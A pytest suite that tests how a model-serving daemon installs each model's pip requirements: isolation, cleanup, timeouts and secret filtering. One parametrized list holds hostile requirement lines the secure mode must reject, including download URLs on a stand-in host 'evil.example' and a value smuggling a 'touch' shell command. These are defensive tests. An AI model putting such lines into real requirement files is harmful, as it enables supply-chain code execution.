"""Requirements of archives: installed for their model alone, by a real pip from a wheel made here, no network (S45)."""

from __future__ import annotations

import asyncio
import base64
import hashlib
import os
import socket
import subprocess
import sys
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from harness.daemon import Daemon
from harness.surfaces import RestSurface

from torchd_archiver.packing import PackRequest, pack
from torchd_server import errors
from torchd_server.dependencies import Dependencies
from torchd_server.store import ModelStore, UnpackedModel

HANDLER = """\
import sys


def handle(data, context):
    import answerlib

    return [f"{answerlib.ANSWER} {answerlib.__file__} {sys.prefix}"] if data else None
"""


@pytest.fixture
def wheels(tmp_path: Path) -> Path:
    """A folder with one wheel, `answerlib` 1.0."""
    folder = tmp_path / "wheels"
    folder.mkdir()
    files = {
        "answerlib.py": b"ANSWER = 42\n",
        "answerlib-1.0.dist-info/METADATA": b"Metadata-Version: 2.1\nName: answerlib\nVersion: 1.0\n",
        "answerlib-1.0.dist-info/WHEEL": b"Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    record = "".join(
        f"{name},sha256={base64.urlsafe_b64encode(hashlib.sha256(body).digest()).rstrip(b'=').decode()},{len(body)}\n"
        for name, body in files.items()
    )
    with zipfile.ZipFile(folder / "answerlib-1.0-py3-none-any.whl", "w") as wheel:
        for name, body in files.items():
            wheel.writestr(name, body)
        wheel.writestr("answerlib-1.0.dist-info/RECORD", record + "answerlib-1.0.dist-info/RECORD,,\n")
    return folder


@pytest.fixture
def environment(wheels: Path) -> dict[str, str]:
    """How an operator points pip at a folder instead of an index."""
    return {"PATH": os.environ["PATH"], "PIP_NO_INDEX": "1", "PIP_FIND_LINKS": str(wheels), "SECRET": "x"}


def packed(store: Path, requirements: str, *, config: str = "", archive_format: str = "default") -> None:
    store.mkdir(exist_ok=True)
    sources = store.parent / "sources"
    sources.mkdir(exist_ok=True)
    (sources / "handler.py").write_text(HANDLER)
    (sources / "requirements.txt").write_text(requirements)
    (sources / "model-config.yaml").write_text(config)
    pack(
        PackRequest(
            "needy",
            "1.0",
            str(sources / "handler.py"),
            requirements_file=sources / "requirements.txt",
            config_file=sources / "model-config.yaml" if config else None,
            export_path=store,
            archive_format=archive_format,
        )
    )


def fetch(tmp_path: Path, dependencies: Dependencies | None, url: str = "needy.mar") -> UnpackedModel:
    (tmp_path / "scratch").mkdir(exist_ok=True)
    return asyncio.run(ModelStore(tmp_path / "store", tmp_path / "scratch", dependencies=dependencies).fetch(url))


def test_nothing_is_installed_unless_the_operator_says_so(tmp_path: Path) -> None:
    """E11."""
    packed(tmp_path / "store", "answerlib\n")
    model = fetch(tmp_path, None)
    assert model.python is None
    assert not (model.directory / "answerlib.py").exists()


def test_they_go_into_the_models_own_folder(tmp_path: Path, environment: dict[str, str]) -> None:
    packed(tmp_path / "store", "answerlib==1.0\n")
    model = fetch(tmp_path, Dependencies(environment, None, only_hashed_wheels=False))
    assert (model.directory / "answerlib.py").is_file()
    assert model.python is None


def test_a_folder_of_the_store_is_not_written_into(tmp_path: Path, environment: dict[str, str]) -> None:
    packed(tmp_path / "store", "answerlib==1.0\n", archive_format="no-archive")
    store = ModelStore(
        tmp_path / "store", tmp_path, dependencies=Dependencies(environment, None, only_hashed_wheels=False)
    )
    model = asyncio.run(store.fetch("needy"))
    assert not (tmp_path / "store" / "needy" / "answerlib.py").exists()
    assert model.venv is not None
    assert model.python == model.venv / "bin" / "python"
    assert list(model.venv.rglob("answerlib.py"))
    asyncio.run(store.drop(model))
    assert not model.venv.exists()
    assert (tmp_path / "store" / "needy").is_dir()


def test_what_cannot_be_installed_leaves_nothing_and_says_what_pip_said(
    tmp_path: Path, environment: dict[str, str]
) -> None:
    """TorchServe leaves the model registered; here there is none."""
    for config in ("", "useVenv: true\n"):
        packed(tmp_path / "store", "no-such-package==9\n", config=config, archive_format="default")
        with pytest.raises(errors.DependenciesFailed) as failed:
            fetch(tmp_path, Dependencies(environment, None, only_hashed_wheels=False))
        assert str(failed.value).startswith("Custom pip package installation failed for model needy: ")
        assert "no-such-package" in str(failed.value)
        assert os.listdir(tmp_path / "scratch") == []
        (tmp_path / "store" / "needy.mar").unlink()


def test_an_installation_has_an_end(tmp_path: Path, environment: dict[str, str]) -> None:
    packed(tmp_path / "store", "answerlib\n")
    with pytest.raises(errors.DependenciesFailed, match=r"more than 0\.05 s"):
        fetch(tmp_path, Dependencies(environment, None, only_hashed_wheels=False, timeout=0.05))
    assert os.listdir(tmp_path / "scratch") == []


S45 = [
    "--index-url http://evil.example/simple\nanswerlib\n",
    "-e .\n",
    "-r other.txt\n",
    "./answerlib-1.0-py3-none-any.whl\n",
    "/etc/x.whl\n",
    "answerlib @ https://evil.example/answerlib-1.0-py3-none-any.whl\n",
    "git+https://evil.example/answerlib\n",
    "answerlib; touch M\n",
    "answerlib==1.0\n",
]


@pytest.mark.parametrize("requirements", S45, ids=range(len(S45)))
def test_the_secure_posture_takes_hashed_wheels_only(
    tmp_path: Path, environment: dict[str, str], requirements: str
) -> None:
    """S45: nothing is fetched by a URL, a path or an option of the file, and nothing without its hash."""
    packed(tmp_path / "store", requirements)
    with pytest.raises(errors.DependenciesFailed):
        fetch(tmp_path, Dependencies(environment, "PATH", only_hashed_wheels=True))


def test_a_hashed_wheel_is_installed_in_the_secure_posture(
    tmp_path: Path, environment: dict[str, str], wheels: Path
) -> None:
    [wheel] = wheels.iterdir()
    digest = hashlib.sha256(wheel.read_bytes()).hexdigest()
    packed(tmp_path / "store", f"answerlib==1.0 \\\n    --hash=sha256:{digest}\n")
    model = fetch(tmp_path, Dependencies(environment, "PATH", only_hashed_wheels=True))
    assert (model.directory / "answerlib.py").is_file()


def test_pip_sees_its_own_settings_and_no_secret(tmp_path: Path, environment: dict[str, str]) -> None:
    seen = Dependencies(environment, "PATH", only_hashed_wheels=True)._environment
    assert seen.keys() == {"PATH", "PIP_NO_INDEX", "PIP_FIND_LINKS"}


def test_what_is_hidden_from_workers_is_hidden_from_what_they_install(environment: dict[str, str]) -> None:
    """Building a package runs its code: blacklist_env_vars holds for it, too."""
    seen = Dependencies(environment, None, "SEC.*", only_hashed_wheels=False)._environment
    assert seen.keys() == {"PATH", "PIP_NO_INDEX", "PIP_FIND_LINKS"}


INSTALLER = """
import asyncio, os, sys
from pathlib import Path
from torchd_server.dependencies import Dependencies

dependencies = Dependencies(dict(os.environ), None, only_hashed_wheels=False)
asyncio.run(dependencies.into_folder("m", Path(sys.argv[1]), Path(sys.argv[2])))
"""


def test_pip_ends_with_the_daemon_that_started_it(tmp_path: Path) -> None:
    """P15: it would go on writing into a folder that the next daemon has cleared."""
    (tmp_path / "requirements.txt").write_text("answerlib\n")
    with socket.create_server(("127.0.0.1", 0)) as index:
        index.settimeout(60.0)
        url = f"http://127.0.0.1:{index.getsockname()[1]}/simple"
        daemon = subprocess.Popen(
            [sys.executable, "-c", INSTALLER, str(tmp_path / "requirements.txt"), str(tmp_path)],
            env=os.environ | {"PIP_INDEX_URL": url, "PIP_TIMEOUT": "60"},
        )
        try:
            connection, _ = index.accept()
            with connection:
                connection.settimeout(20.0)
                assert connection.recv(4).startswith(b"GET")
                daemon.kill()
                daemon.wait()
                while connection.recv(65536):
                    pass
        finally:
            daemon.kill()
            daemon.wait()


@pytest.fixture
def daemon(tmp_path: Path, environment: dict[str, str]) -> Iterator[Daemon]:
    """A server that installs, over a store whose model wants an environment of its own."""
    packed(tmp_path / "store", "answerlib==1.0\n", config="useVenv: true\n")
    daemon = Daemon(
        tmp_path / "daemon", store=tmp_path / "store", command="torchserve", arguments=["--enable-model-api"]
    )
    daemon.environment |= environment
    config = daemon.folder / "config.properties"
    config.write_text(config.read_text() + "install_py_dep_per_model=true\n")
    with daemon:
        yield daemon


def test_a_worker_runs_with_the_python_of_its_models_environment(daemon: Daemon) -> None:
    """The runtime is found from there, the model's packages come first, the daemon's after them."""
    rest = RestSurface(daemon)
    answer = rest.register("needy.mar", initial_workers=1)
    assert answer.error is None, f"{answer.error}\n{daemon.log}"
    said = rest.predict("needy", b"{}").body.decode()
    number, file, prefix = said.split()
    assert number == "42"
    assert prefix.endswith("-venv")
    assert file.startswith(prefix)
    rest.unregister("needy")
    assert not Path(prefix).exists()
